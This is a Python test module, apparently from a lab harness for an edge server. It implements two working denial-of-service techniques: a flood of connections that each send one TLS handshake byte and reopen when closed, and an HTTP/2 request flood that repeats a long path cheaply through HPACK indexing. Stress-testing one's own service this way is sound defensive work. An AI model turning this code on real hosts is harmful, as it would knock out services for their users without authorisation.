"""Attacks on the edge of a lab host from one address: connections that send one byte, and requests to nowhere."""

import errno
import resource
import selectors
import socket
import ssl
import struct
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field

from tests.lab.certificates import EDGE
from tests.lab.host import Host

SPARE_FILES = 1000
WITHOUT_PORT = 24  # IP_BIND_ADDRESS_NO_PORT: so that one address can have as many connections as it has ports
STREAMS = 32  # of one connection at one time, as the edge permits
DATA, HEADERS, RESET, SETTINGS, GOAWAY, WINDOW = 0, 1, 3, 4, 7, 8
ENDS, ACK = 1, 1


@dataclass
class Flood:
    """So many connections at one time, each opened again as soon as the edge closes it."""

    host: Host
    source: str
    count: int
    sent: int = 0  # bytes, one on each connection that was made
    stopped: threading.Event = field(default_factory=threading.Event)

    def run(self) -> None:
        with selectors.DefaultSelector() as selector:
            for _ in range(self.count):
                self._open(selector)
            while not self.stopped.is_set():
                for key, events in selector.select(0.2):
                    self._go_on(selector, key.fileobj, events)  # type: ignore[arg-type]  # only sockets are registered
            for key in list(selector.get_map().values()):
                key.fileobj.close()  # type: ignore[union-attr]  # the same

    def _open(self, selector: selectors.BaseSelector) -> None:
        made = socket.socket()
        made.setblocking(False)
        made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, self.host.network.interface.encode())
        made.setsockopt(socket.SOL_IP, WITHOUT_PORT, 1)
        made.bind((self.source, 0))
        if made.connect_ex((self.host.address, 443)) in {0, errno.EINPROGRESS}:
            selector.register(made, selectors.EVENT_WRITE)
        else:
            made.close()

    def _go_on(self, selector: selectors.BaseSelector, made: socket.socket, events: int) -> None:
        if events & selectors.EVENT_WRITE:
            with suppress(OSError):
                self.sent += made.send(b"\x16")  # as a handshake begins
                selector.modify(made, selectors.EVENT_READ)
                return
        selector.unregister(made)
        made.close()
        self._open(selector)


@contextmanager
def connections(host: Host, source: str, count: int) -> Iterator[Flood]:
    """They try to hold that many during the block."""
    limits = resource.getrlimit(resource.RLIMIT_NOFILE)
    files = count + SPARE_FILES
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(limits[0], files), max(limits[1], files)))
    flood = Flood(host, source, count)
    thread = threading.Thread(target=flood.run)
    thread.start()
    try:
        yield flood
    finally:
        flood.stopped.set()
        thread.join()
        resource.setrlimit(resource.RLIMIT_NOFILE, limits)


def requests(host: Host, source: str, path: str, seconds: float) -> int:
    """Ask for a path for so long over HTTP/2, which repeats a long path for one byte; how many were answered."""
    end, answered = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        trusted = ssl.create_default_context(cafile=str(host.directory / "ca.pem"))
        trusted.set_alpn_protocols(["h2"])
        with host.network.dial(443, 10, source, trusted) as client, suppress(ConnectionError, ssl.SSLError):
            answered += _ask(client, path, end)
    return answered


def _ask(client: socket.socket, path: str, end: float) -> int:
    """On one connection, until the edge ends it; how many were answered."""
    window = struct.pack("!I", 1 << 30)
    client.sendall(
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        + _frame(SETTINGS)
        + _frame(SETTINGS, ACK)
        + _frame(WINDOW, 0, 0, window)
    )
    # GET and https by their numbers; host and path in full once, and by the numbers that they get so from then on.
    first = b"\x82\x87\x41" + _text(EDGE) + b"\x44" + _text(path)
    stream, waiting, answered, got = 1, 0, 0, b""
    while time.monotonic() < end:
        asked = b""
        while waiting < STREAMS:
            asked += _frame(HEADERS, 0x5, stream, first if stream == 1 else b"\x82\x87\xbf\xbe")
            stream, waiting = stream + 2, waiting + 1
        client.sendall(asked)
        piece = client.recv(1 << 16)
        if not piece:
            break
        got += piece
        while len(got) >= 9 and len(got) >= (size := 9 + int.from_bytes(got[:3])):
            kind, flags = got[3], got[4]
            got = got[size:]
            if kind == GOAWAY:
                return answered
            if kind == RESET or (kind in {DATA, HEADERS} and flags & ENDS):
                waiting -= 1
                answered += kind != RESET
    return answered


def _frame(kind: int, flags: int = 0, stream: int = 0, content: bytes = b"") -> bytes:
    return struct.pack("!I", len(content))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + content


def _text(text: str) -> bytes:
    """As HPACK writes it: the length in seven bits, and the rest of it in as many bytes as that takes."""
    rest = len(text) - 127
    if rest < 0:
        return bytes([len(text)]) + text.encode()
    length = bytearray([127])
    while rest >= 128:
        length.append(rest % 128 + 128)
        rest //= 128
    return bytes([*length, rest]) + text.encode()
